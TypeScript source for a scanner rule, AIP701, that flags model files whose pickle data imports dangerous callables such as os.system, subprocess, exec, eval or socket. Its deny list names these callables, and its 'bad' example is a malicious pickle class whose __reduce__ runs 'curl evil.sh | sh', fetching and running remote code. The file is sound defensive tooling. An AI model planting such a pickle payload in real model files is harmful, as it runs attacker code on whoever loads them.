import { CONTAINER_TEXT, importsWith } from '../modelScan/verdict';
import { type ByteRuleContext, byteRule } from './rule';

/** Distinct dangerous imports reported per file; a file with more is malicious either way. */
const MAX_REPORTS = 10;

/** Every format that can carry a pickle stream (a `.keras` archive can hide one in a member). */
export const PICKLE_FORMATS = ['pickle', 'pytorch-zip', 'numpy', 'numpy-zip', 'zip', 'keras-zip'];

export const aip701 = byteRule({
  meta: {
    id: 'AIP701',
    name: 'malicious-pickle-import',
    title: 'Model file whose pickle imports a dangerous callable',
    explanation:
      'A pickle runs what it imports when it is loaded: `GLOBAL`, `STACK_GLOBAL` and `INST` opcodes import a callable and `REDUCE`/`OBJ`/`NEWOBJ` call it. This model file imports a callable that runs commands, evaluates code, opens files or sockets, or loads another pickle (`os.system`, `posix`, `subprocess`, `builtins.exec`/`eval`/`getattr`, `pip.main`, `timeit`, `runpy`, `socket`, …; the deny list is the union of picklescan, ModelScan and fickling, and a module covers its submodules). Loading it with `pickle`, `torch.load` (without `weights_only=True`), `joblib.load` or `numpy.load(allow_pickle=True)` runs that code. The file is read as bytes and never unpickled: STACK_GLOBAL operands are resolved through the memo, operands that are not plain strings count as dangerous, and zip CRCs, flag bits and file names are ignored (the published picklescan bypasses).',
    remediation:
      'Do not load the file. Delete it, find out where it came from, and get the weights as safetensors from a source you trust. If you must inspect it, do so with a scanner in an isolated environment, never with `pickle.load`.',
    owasp: ['LLM03:2025', 'LLM04:2025'],
    cwe: ['CWE-502', 'CWE-94'],
    atlas: ['AML.T0011.000', 'AML.T0010.003'],
    defaultSeverity: 'error',
    securitySeverity: 9.8,
    confidence: 'high',
    fixable: false,
    messages: {
      dangerousImport:
        'This model file is {container}; its pickle {action} `{callable}` (offset {offset}{where}), which runs code when the file is loaded. Do not load it.',
      unresolvedImport:
        'This model file is {container}; its pickle builds an import from operands that are not plain strings (offset {offset}{where}), a way to hide what it runs. Do not load it.',
    },
    references: [
      { title: 'picklescan', url: 'https://github.com/mmaitre314/picklescan' },
      { title: 'Trail of Bits: fickling', url: 'https://github.com/trailofbits/fickling' },
      { title: 'Python docs: pickle (security warning)', url: 'https://docs.python.org/3/library/pickle.html' },
    ],
    since: '0.2.0',
    example: {
      language: 'python',
      bad: 'class P:\n    def __reduce__(self):\n        return (os.system, ("curl evil.sh | sh",))\ntorch.save(P(), "model.bin")',
      good: 'safetensors.torch.save_file(model.state_dict(), "model.safetensors")',
    },
  },
  formats: PICKLE_FORMATS,
  check(context: ByteRuleContext) {
    const scan = context.file.scan;
    if (!scan) return;
    for (const { stream, found } of importsWith(scan, 'dangerous').slice(0, MAX_REPORTS)) {
      const common = {
        container: CONTAINER_TEXT[stream.container],
        offset: found.offset,
        where: stream.member ? ` in ${stream.member}` : '',
      };
      const fingerprintText = `${stream.member ?? ''}:${found.module}.${found.name}`;
      if (found.module === 'unknown' || found.name === 'unknown') {
        context.report({ messageId: 'unresolvedImport', data: common, fingerprintText });
        continue;
      }
      const action = found.called ? 'imports and calls' : 'imports';
      context.report({
        messageId: 'dangerousImport',
        data: { ...common, action, callable: `${found.module}.${found.name}` },
        fingerprintText,
      });
    }
  },
});
